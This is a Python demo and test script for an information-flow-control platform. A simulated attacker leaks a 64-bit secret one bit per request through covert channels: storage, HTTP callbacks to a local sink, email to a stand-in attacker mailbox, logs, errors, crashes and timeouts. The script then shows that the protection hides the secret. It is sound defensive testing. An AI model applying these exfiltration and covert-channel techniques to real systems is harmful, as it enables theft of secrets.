"""The attacker's program: leak a 64-bit secret one bit per request, then show what it got.

    python examples/bad_app/attack.py            # baseline once, IFC on with two secrets
    python examples/bad_app/attack.py --bits 16  # a shorter run

The attacker is `mallory`, a public principal. It deploys nothing itself: the app (with the
compromised `leak` function) runs on Trapeze, and mallory can only send requests and watch
what reaches it at `public` — replies, the store as its own requests read it, its HTTP server
and mailbox, and the logs and audit records the platform shows it. For each round (one
channel) it sends one request per bit, all at once, and decodes every channel into a guess.

With IFC off (`ifc=False`) every channel carries the secret. With IFC on, the attacker's
complete observation — every byte it saw, minus request ids and dates — is the same whatever
the secret, which this script checks by running the attack against two secrets.

Also imported by tests/examples/test_bad_app.py.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import re
import secrets
import shutil
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

APP_DIR = Path(__file__).resolve().parent
ATTACKER_TOKEN = "dev-mallory"
OWNER_TOKEN = "dev-vera"
MAILBOX = "mallory@attacker.invalid"

# Round → the function it goes to. The termination rounds go to `halt` (same code, one
# invocation at a time; see trapeze.toml).
ROUNDS: dict[str, str] = {
    "store": "leak", "egress": "leak", "reply": "leak", "error": "leak",
    "crash": "halt", "loop": "halt",
}
CHANNELS = ("store-write", "store-delete", "http", "email", "log", "reply", "error", "crash",
            "loop")


# ---------------------------------------------------------------------- the attacker's sinks
class _Drop(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - the stdlib's naming
        with self.server.lock:  # type: ignore[attr-defined]
            self.server.hits.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


class _Mailbox:
    def __init__(self) -> None:
        self.subjects: list[str] = []
        self.lock = threading.Lock()

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:  # noqa: N802
        text = envelope.content.decode("utf-8", "replace")
        found = re.search(r"^Subject: (.*)$", text, re.MULTILINE)
        with self.lock:
            self.subjects.append(found.group(1).strip() if found else "")
        return "250 OK"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class Sinks:
    """What the attacker runs outside the platform: a web server and a mail server."""

    http: ThreadingHTTPServer
    mailbox: _Mailbox
    smtp_port: int

    @property
    def http_port(self) -> int:
        return int(self.http.server_address[1])

    def reset(self) -> None:
        with self.http.lock:  # type: ignore[attr-defined]
            self.http.hits.clear()  # type: ignore[attr-defined]
        with self.mailbox.lock:
            self.mailbox.subjects.clear()

    def seen(self) -> tuple[list[str], list[str]]:
        with self.http.lock:  # type: ignore[attr-defined]
            hits = sorted(self.http.hits)  # type: ignore[attr-defined]
        with self.mailbox.lock:
            subjects = sorted(self.mailbox.subjects)
        return hits, subjects


@contextmanager
def attacker_sinks() -> Iterator[Sinks]:
    from aiosmtpd.controller import Controller

    server = ThreadingHTTPServer(("127.0.0.1", 0), _Drop)
    server.hits = []  # type: ignore[attr-defined]
    server.lock = threading.Lock()  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    mailbox = _Mailbox()
    # aiosmtpd probes the port it is given, so it cannot take port 0: pick a free one.
    controller = Controller(mailbox, hostname="127.0.0.1", port=_free_port())
    controller.start()
    try:
        yield Sinks(server, mailbox, controller.port)
    finally:
        controller.stop()
        server.shutdown()
        server.server_close()


# ---------------------------------------------------------------------- deployment
def deploy(workdir: Path, sinks: Sinks) -> Path:
    """A copy of the app whose channels point at this run's sinks."""
    app_dir = workdir / "bad_app"
    shutil.copytree(APP_DIR / "functions", app_dir / "functions",
                    ignore=shutil.ignore_patterns("__pycache__"))
    manifest = (APP_DIR / "trapeze.toml").read_text()
    manifest = manifest.replace("127.0.0.1:8479/", f"127.0.0.1:{sinks.http_port}/")
    manifest = manifest.replace("port = 2526", f"port = {sinks.smtp_port}")
    (app_dir / "trapeze.toml").write_text(manifest)
    return app_dir


# ---------------------------------------------------------------------- the attack
@dataclass
class AttackRun:
    mode: str
    secret: int
    n_bits: int
    observation: dict[str, Any]
    guesses: dict[str, int] = field(default_factory=dict)
    guess: int = 0
    # Not the attacker's: what the secret's owner sees at `secret` afterwards, showing that
    # the injected code did run and did try every channel (the attack was contained, not
    # skipped). Filled in under IFC only.
    above: dict[str, Any] = field(default_factory=dict)

    @property
    def canonical(self) -> bytes:
        """The attacker's whole observation as bytes: equal iff it saw the same thing."""
        return json.dumps(self.observation, sort_keys=True, separators=(",", ":")).encode()

    @property
    def digest(self) -> str:
        return hashlib.sha256(self.canonical).hexdigest()[:16]

    @property
    def mask(self) -> int:
        return (1 << self.n_bits) - 1

    @property
    def exact(self) -> bool:
        return self.guess == self.secret & self.mask


def _reply(r: httpx.Response) -> list[Any]:
    # Everything the attacker receives, except the per-request id and the date, which are
    # fresh in every run whatever the secret.
    return [r.status_code, r.headers.get("x-trapeze-status"), r.headers.get("content-type"),
            r.text]


def attack(url: str, sinks: Sinks, *, n_bits: int = 64, rounds: Sequence[str] = tuple(ROUNDS),
           settle: float = 3.0) -> dict[str, Any]:
    """Mallory's program against a running deployment; returns everything it observed."""
    headers = {"Authorization": f"Bearer {ATTACKER_TOKEN}"}
    sink = f"http://127.0.0.1:{sinks.http_port}/"
    replies: dict[str, list[Any]] = {}
    limits = httpx.Limits(max_connections=n_bits, max_keepalive_connections=n_bits)
    with httpx.Client(base_url=url, headers=headers, timeout=120, limits=limits) as client, \
            ThreadPoolExecutor(max_workers=n_bits) as pool:
        for how in rounds:
            path = f"/{ROUNDS[how]}"

            def one(i: int, how: str = how, path: str = path) -> list[Any]:
                body = {"how": how, "bit": i, "sink": sink, "mail": MAILBOX}
                for _ in range(20):
                    r = client.post(path, json=body)
                    # "Busy" means the platform never ran the request (its queue was full
                    # for 30 s: in the baseline, 64 loop requests take one timeout each, one
                    # at a time). The attacker just asks again.
                    if not (r.status_code == 503 and "busy" in r.text):
                        break
                return _reply(r)

            # Many concurrent requests, one per bit: concurrency must not amplify anything.
            replies[how] = list(pool.map(one, range(n_bits)))
        # Detached work (under IFC) may still run; give it time to reach the attacker if it
        # could. What arrives is what counts, not when.
        time.sleep(settle)
        store = client.post("/leak", json={"how": "collect"}).json()
        logs = client.get("/_trapeze/logs").json()
        audit = client.get("/_trapeze/audit").json()
    hits, subjects = sinks.seen()
    return {
        "replies": replies,
        "store": store,
        "http": hits,
        "email": subjects,
        "logs": sorted(line for row in logs for line in row["text"].splitlines()),
        "audit": sorted([e["kind"], e["function"] or "", e["label"]] for e in audit),
    }


def decode(obs: dict[str, Any], n_bits: int) -> dict[str, int]:
    """The attacker's reading of each channel as a number (bit i from request i)."""
    def bits(pred: Any) -> int:
        return sum(1 << i for i in range(n_bits) if pred(i))

    replies = obs["replies"]
    store = obs.get("store") or {}
    logged = set(obs["logs"])

    def body_bit(i: int) -> bool:
        try:
            return json.loads(replies["reply"][i][3]).get("bit") == 1
        except (ValueError, AttributeError):
            return False

    out: dict[str, int] = {
        "store-write": bits(lambda i: f"w{i:02d}" in store.get("leak", [])),
        "store-delete": bits(lambda i: f"m{i:02d}" not in store.get("marks", [])),
        "http": bits(lambda i: f"/bit/{i}" in obs["http"]),
        "email": bits(lambda i: f"bit {i}" in obs["email"]),
        "log": bits(lambda i: f"bit {i} = 1" in logged),
    }
    if "reply" in replies:
        out["reply"] = bits(body_bit)
    if "error" in replies:
        out["error"] = bits(lambda i: replies["error"][i][1] == "error")
    if "crash" in replies:
        out["crash"] = bits(lambda i: replies["crash"][i][1] == "error")
    if "loop" in replies:
        out["loop"] = bits(lambda i: replies["loop"][i][1] == "timeout")
    if "store" not in replies:
        del out["store-write"], out["store-delete"]
    if "egress" not in replies:
        del out["http"], out["email"]
    return out


def majority(guesses: dict[str, int], n_bits: int) -> int:
    """One 64-bit guess: each bit as most channels read it."""
    votes = len(guesses)
    return sum(1 << i for i in range(n_bits)
               if 2 * sum((g >> i) & 1 for g in guesses.values()) > votes)


def run_attack(secret: int, *, ifc: bool, sinks: Sinks, n_bits: int = 64,
               rounds: Sequence[str] = tuple(ROUNDS), settle: float = 3.0) -> AttackRun:
    """Deploy afresh, let the owner store `secret`, run mallory's attack, decode."""
    from trapeze import App

    sinks.reset()
    with tempfile.TemporaryDirectory(prefix="bad_app-") as tmp:
        app = App.load(deploy(Path(tmp), sinks))
        with app.start(store=f"sqlite:///{tmp}/app.db", http=True, ifc=ifc) as rt:
            r = httpx.post(f"{rt.url}/secret", json={"secret": f"{secret:016x}"},
                           headers={"Authorization": f"Bearer {OWNER_TOKEN}"}, timeout=60)
            r.raise_for_status()
            obs = attack(rt.url, sinks, n_bits=n_bits, rounds=rounds, settle=settle)
            above = _above(rt, secret, n_bits, rounds) if ifc else {}
    run = AttackRun("IFC on" if ifc else "IFC off (baseline)", secret, n_bits, obs,
                    above=above)
    run.guesses = decode(obs, n_bits)
    run.guess = majority(run.guesses, n_bits)
    return run


def _above(rt: Any, secret: int, n_bits: int, rounds: Sequence[str],
           wait: float = 30.0) -> dict[str, Any]:
    """What the owner sees at `secret` once the detached continuations have ended."""
    ones = bin(secret & ((1 << n_bits) - 1)).count("1")
    expected = {"timeout": ones if "loop" in rounds else 0,
                "kill": ones if "crash" in rounds else 0}
    deadline = time.monotonic() + wait
    while True:
        audit = rt.audit(as_label="secret")
        ended = {kind: sum(1 for e in audit if e["kind"] == kind and e["function"] == "halt")
                 for kind in expected}
        if all(ended[k] >= n for k, n in expected.items()) or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    view = rt.view("secret")
    logs = rt.logs(as_label="secret")
    return {
        "written": sorted(k for k, _ in view.scan("leak", limit=1000)),
        "deleted": sorted(f"m{i:02d}" for i in range(n_bits)
                          if "store" in rounds and view.get("marks", f"m{i:02d}") is None),
        "refused": sorted(e["detail"].get("channel", "") for e in audit
                          if e["kind"] == "refused"),
        "ended": ended,
        "logged_ones": sum(row["text"].count(" = 1\n") for row in logs),
    }


# ---------------------------------------------------------------------- the demo
def _hex(value: int, n_bits: int) -> str:
    return f"0x{value:0{(n_bits + 3) // 4}x}"


def report(run: AttackRun) -> str:
    n = run.n_bits
    lines = [f"== {run.mode}: secret {_hex(run.secret & run.mask, n)}"]
    for name, g in run.guesses.items():
        right = n - bin((g ^ run.secret) & run.mask).count("1")
        lines.append(f"   {name:<13} {_hex(g, n)}  ({right}/{n} bits right)")
    verdict = "recovered exactly" if run.exact else "not recovered"
    lines.append(f"   attacker's guess {_hex(run.guess, n)}: {verdict}")
    lines.append(f"   observation: {len(run.canonical)} bytes, sha256 {run.digest}")
    if run.above:
        a = run.above
        lines.append(
            f"   (at `secret`, where the attacker cannot look: {len(a['written'])} keys written,"
            f" {len(a['deleted'])} deleted, {len(a['refused'])} outputs refused,"
            f" {a['ended']['kill']} crashes, {a['ended']['timeout']} endless loops killed)"
        )
    return "\n".join(lines)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--bits", type=int, default=64, help="bits to leak (default 64)")
    parser.add_argument("--rounds", default=",".join(ROUNDS),
                        help=f"comma-separated rounds (default {','.join(ROUNDS)})")
    args = parser.parse_args(argv)
    rounds = [r for r in args.rounds.split(",") if r]
    unknown = set(rounds) - set(ROUNDS)
    if unknown or not 1 <= args.bits <= 64:
        parser.error(f"unknown rounds {sorted(unknown)}" if unknown else "--bits is 1..64")
    s1, s2 = secrets.randbits(args.bits), secrets.randbits(args.bits)
    with attacker_sinks() as sinks:
        base = run_attack(s1, ifc=False, sinks=sinks, n_bits=args.bits, rounds=rounds)
        print(report(base), flush=True)
        on1 = run_attack(s1, ifc=True, sinks=sinks, n_bits=args.bits, rounds=rounds)
        print(report(on1), flush=True)
        on2 = run_attack(s2, ifc=True, sinks=sinks, n_bits=args.bits, rounds=rounds)
        print(report(on2), flush=True)
    same = on1.canonical == on2.canonical
    print(f"\nIFC off: the attacker recovered the secret: {base.exact}")
    print(f"IFC on: observations for {_hex(s1, args.bits)} and {_hex(s2, args.bits)} "
          f"byte-identical: {same}")
    return 0 if base.exact and same and not (on1.exact and on2.exact) else 1


if __name__ == "__main__":
    sys.exit(main())
